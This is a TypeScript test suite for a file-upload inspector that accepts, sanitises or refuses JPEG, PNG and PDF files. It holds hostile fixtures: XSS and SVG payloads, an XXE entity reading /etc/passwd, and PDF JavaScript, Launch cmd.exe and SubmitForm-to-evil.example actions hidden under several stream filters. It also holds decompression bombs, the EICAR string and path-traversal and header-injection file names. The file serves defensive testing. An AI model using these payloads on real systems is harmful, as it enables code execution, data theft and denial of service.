import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { test } from 'node:test'
import { deflateSync, inflateSync } from 'node:zlib'
import { upload } from '@sampan/contract/constants.ts'
import { refusals } from '@sampan/contract/refusals.ts'
import { bankPdf, handmadePdf } from '@sampan/test-support/pdf.ts'
import sharp from 'sharp'
import { displayName, inspectFile } from './inspect-file.ts'

const photo = (format: 'jpeg' | 'png', width = 40, height = 30) =>
  sharp({ create: { width, height, channels: 3, background: '#4a7' } })
    .withExif({ IFD0: { Artist: 'SECRET-AUTHOR', Copyright: 'SECRET-PLACE' } })
    .toFormat(format)
    .toBuffer()

const inspect = (bytes: Buffer, name = 'proof.png', type = 'image/png') => inspectFile({ name, type, bytes })
const refused = async (bytes: Buffer, name?: string): Promise<string | undefined> => {
  try {
    await inspect(bytes, name)
    return undefined
  } catch (error) {
    return (error as { refusal?: string }).refusal
  }
}

test('[5.17] JPG, PNG and PDF are accepted by their content, not their name', async () => {
  assert.equal((await inspect(await photo('jpeg'), 'x.pdf')).type, 'image/jpeg')
  assert.equal((await inspect(await photo('png'), 'x.jpg')).type, 'image/png')
  assert.equal((await inspect(handmadePdf(), 'x.png')).type, 'application/pdf')
})

test('UP-08 a picture is redrawn: metadata and appended data are gone', async () => {
  for (const format of ['jpeg', 'png'] as const) {
    const tail = Buffer.from('<script>alert(1)</script>SECRET-TAIL')
    const { bytes, sha256 } = await inspect(Buffer.concat([await photo(format), tail]))
    for (const secret of ['SECRET-AUTHOR', 'SECRET-PLACE', 'SECRET-TAIL', '<script>'])
      assert.ok(!bytes.includes(secret), `${format} ${secret}`)
    const { width, height } = await sharp(bytes).metadata()
    assert.deepEqual([width, height, sha256.length], [40, 30, 32])
  }
})

test('[5.20] UP-03 a file of exactly 5M is judged, one byte more is refused by its size', async () => {
  const fill = (size: number) =>
    Buffer.concat([handmadePdf().subarray(0, -6), Buffer.alloc(size - handmadePdf().length, 0x20), Buffer.from('%%EOF\n')])
  assert.equal(fill(upload.fileBytesMax).length, upload.fileBytesMax)
  assert.equal(await refused(fill(upload.fileBytesMax)), undefined)
  assert.equal(await refused(fill(upload.fileBytesMax + 1)), 'fileTooLarge')
})

const markup = [
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '<html><script>alert(1)</script></html>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  'alert(1)',
  'GIF89a',
  'MZ',
  'PK\u0003\u0004',
  '',
]
const actions = [
  '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
  '/AA << /WC 6 0 R >>',
  '/Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >>',
  '/J#53 (x) /#4aavaScript 1 0 R',
  '/AcroForm << /XFA 3 0 R /Fields [] >>',
]
const behind = [
  '<< /S /Launch /F (cmd.exe) >>',
  '<< /Type /Filespec /EF << /F 9 0 R >> >>',
  '<< /S /SubmitForm /F (http://evil.example) >>',
  '<< /S /GoToR /F (http://evil.example/a.pdf) >>',
  '<< /Subtype /FileAttachment >>',
  '<< /Subtype /RichMedia >>',
]
  .map((object, at) => `${20 + at} 0 obj\n${object}\nendobj\n`)
  .join('')

const stream = (dictionary: string, body: Buffer): string =>
  `9 0 obj\n<< ${dictionary} /Length ${body.length} >>\nstream\n${body.toString('latin1')}\nendstream\nendobj\n`
const hex = (bytes: Buffer): Buffer => Buffer.from(`${bytes.toString('hex')}>`)
/** Objects in a stream of every filter that readers know, alone and on top of each other. */
const hidden = (dictionary: string, pack: (bytes: Buffer) => Buffer): string => {
  const objects = Buffer.from('10 0 << /S /JavaScript /JS (app.alert(1)) >>')
  return stream(`/Type /ObjStm /N 1 /First 5 ${dictionary}`, pack(objects))
}
const hiding = [
  hidden('/Filter /FlateDecode', (bytes) => deflateSync(bytes)),
  hidden('/Filter /ASCIIHexDecode', hex),
  hidden('/Filter [/ASCIIHexDecode /FlateDecode]', (bytes) => hex(deflateSync(bytes))),
  hidden('/Filter /RunLengthDecode', (bytes) => Buffer.concat([Buffer.from([bytes.length - 1]), bytes, Buffer.from([128])])),
  hidden(`/Padding (${'x'.repeat(5_000)}) /Filter /FlateDecode`, (bytes) => deflateSync(bytes)),
  hidden('/Filter /Unknown', (bytes) => bytes),
].join('')

/** The only names that a PDF of our own making has; all of them are shown outside of its streams. */
const ownNames =
  'BitsPerComponent Catalog ColorSpace Contents Count CreationDate Creator DCTDecode Dests DeviceRGB Filter FlateDecode Height ID Image ' +
  'ImageB ImageC ImageI Info Kids Length MediaBox Names PDF Page Pages Parent ProcSet Producer Resources Root Size Subtype Text Type ' +
  'UserUnit Width XObject'

/** Made of pictures alone: no name but ours, and every stream is a JPEG or draws one. */
function assertPicturesOnly(bytes: Buffer): void {
  const text = bytes.toString('latin1')
  const streams = [...text.matchAll(/\/Filter \/(\w+)\n>>\nstream\r?\n([\s\S]*?)\nendstream/g)]
  for (const [, filter, body = ''] of streams)
    if (filter === 'DCTDecode') assert.ok(body.startsWith('\xff\xd8\xff'))
    else assert.match(inflateSync(Buffer.from(body, 'latin1')).toString(), /^[\d\s.-]+cm\s+q\s+[\d\s.-]+cm\s+\/I\d+ Do\s+Q\s*$/)
  const outside = text.replaceAll(/stream\r?\n[\s\S]*?endstream/g, '')
  const names = new Set((outside.match(/\/[^\s/<>[\]()]+/g) ?? []).map((name) => name.slice(1)))
  for (const name of names) assert.ok(ownNames.split(' ').includes(name) || /^I\d+$/.test(name), name)
}

test('[5.18] UP-01 UP-02 UP-09 UP-12 D22: hostile files are refused: nothing active passes, memory is bounded', async () => {
  const jpeg = await photo('jpeg')
  const png = await photo('png')
  const huge = Buffer.from(png)
  // The header says 50,000 x 50,000; the pixels were never there.
  huge.writeUInt32BE(50_000, 16)
  huge.writeUInt32BE(50_000, 20)
  const virus = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
  const files: Buffer[] = [
    ...markup.map((text) => Buffer.from(text)),
    huge,
    handmadePdf('', `% ${virus}\n`),
    ...Array.from({ length: 30 }, (_, at) => jpeg.subarray(0, 4 + at * 3)),
    ...Array.from({ length: 30 }, (_, at) => png.subarray(0, 9 + at)),
    ...Array.from({ length: 20 }, () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(3000)])),
    ...Array.from({ length: 20 }, () => Buffer.concat([png.subarray(0, 8), randomBytes(3000)])),
  ]
  assert.ok(files.length >= 110, String(files.length))
  for (const [at, bytes] of files.entries()) {
    const answer = await refused(bytes, `${at}.png`)
    assert.ok(
      answer === 'fileRefused' || answer === 'fileInfected',
      `file ${at}: ${bytes.subarray(0, 60).toString('latin1')} ${answer}`,
    )
  }
})

test('[5.18] UP-02 UP-15 an active PDF, in any filter or dictionary, becomes pictures', async () => {
  const encrypted = await bankPdf({ ownerPassword: 'owner' })
  for (const bytes of [
    handmadePdf(actions.join(' '), behind),
    handmadePdf('', hiding),
    handmadePdf(`/Padding (${'x'.repeat(20_000)}) ${actions.join(' ')}`),
    Buffer.concat([handmadePdf(), Buffer.from(`\n8 0 obj << ${actions[0]} >> endobj\n%%EOF`)]),
    encrypted,
  ])
    assertPicturesOnly((await inspect(bytes)).bytes)
})

test('D8 proofs as banks make them are accepted, encrypted ones too', async () => {
  const opening = handmadePdf('/OpenAction [3 0 R /XYZ null null 1]')
  for (const [bytes, pages] of [
    [opening, 1],
    [await bankPdf({ ownerPassword: 'owner' }), 1],
    [await bankPdf({ pages: 3 }), 3],
  ] as const) {
    const { bytes: safe, type } = await inspect(bytes)
    assert.equal(type, 'application/pdf')
    assert.equal(safe.toString('latin1').match(/\/Type \/Page\n/g)?.length, pages)
    assertPicturesOnly(safe)
  }
  // What is printed there can be seen.
  const { bytes } = await inspect(await bankPdf())
  const start = bytes.indexOf(Buffer.from([0xff, 0xd8, 0xff]))
  const { channels } = await sharp(bytes.subarray(start)).stats()
  assert.deepEqual([channels[0]?.min ?? 255, channels[0]?.max], [0, 255])
})

test('D8 UP-15 a PDF that cannot be taken is refused for its true reason', async () => {
  const whole = await bankPdf()
  for (const [bytes, reason] of [
    [await bankPdf({ userPassword: 'secret' }), 'pdfLocked'],
    [await bankPdf({ pages: 21 }), 'pdfTooLong'],
    [Buffer.from('%PDF-1.7\nnothing that could be read\n%%EOF'), 'pdfDamaged'],
    [handmadePdf().subarray(0, 60), 'pdfDamaged'],
    [Buffer.concat([whole.subarray(0, 40), randomBytes(2_000)]), 'pdfDamaged'],
    [
      Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(4 * 1024 * 1024, '<<'), Buffer.from('\nstream\n%%EOF')]),
      'pdfDamaged',
    ],
  ] as const)
    assert.equal(await refused(bytes), reason)
})

test('UP-06 a PDF that unfolds into gigabytes is refused in bounded memory', async () => {
  const zeros = deflateSync(Buffer.alloc(64 * 1024 * 1024))
  const twice = deflateSync(zeros)
  const page = '4 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Contents 9 0 R >>\nendobj\n'
  // The memory of the drawing library is outside every heap limit, so only the process shows it.
  const before = process.memoryUsage().rss
  for (const more of [
    stream('/Filter [/FlateDecode /FlateDecode]', twice),
    stream(
      '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
      zeros,
    ),
  ]) {
    const bytes = Buffer.from(
      handmadePdf('', `${page}${more}`).toString('latin1').replace('/Kids [3 0 R]', '/Kids [4 0 R]'),
      'latin1',
    )
    await refused(bytes)
  }
  assert.ok(process.memoryUsage().rss - before < 400 * 1024 * 1024)
})

test('UP-06 a picture of too many pixels is refused within a second', async () => {
  const wide = await sharp({ create: { width: 9000, height: 9000, channels: 3, background: 'white' } })
    .png()
    .toBuffer()
  assert.equal(await refused(wide), 'fileRefused')
})

test('UP-05 a name keeps nothing that could be a path, a header or markup', () => {
  const table: [string, string][] = [
    ['../../etc/passwd', 'passwd'],
    ['C:\\x\\proof.pdf', 'proof.pdf'],
    ['a\r\nSet-Cookie: x', 'a__Set-Cookie_ x'],
    ['"><img src=x onerror=alert(1)>.png', '___img src_x onerror_alert(1)_.png'],
    ['\u202Egnp.exe', '_gnp.exe'],
    ['\u0000', '_'],
    ['', 'document'],
    ['ใบเสร็จ.png', 'ใบเสร็จ.png'],
  ]
  for (const [given, expected] of table) assert.equal(displayName(given), expected)
  assert.equal(displayName('x'.repeat(300)).length, 100)
  assert.equal(refusals.fileRefused.status, 415)
})
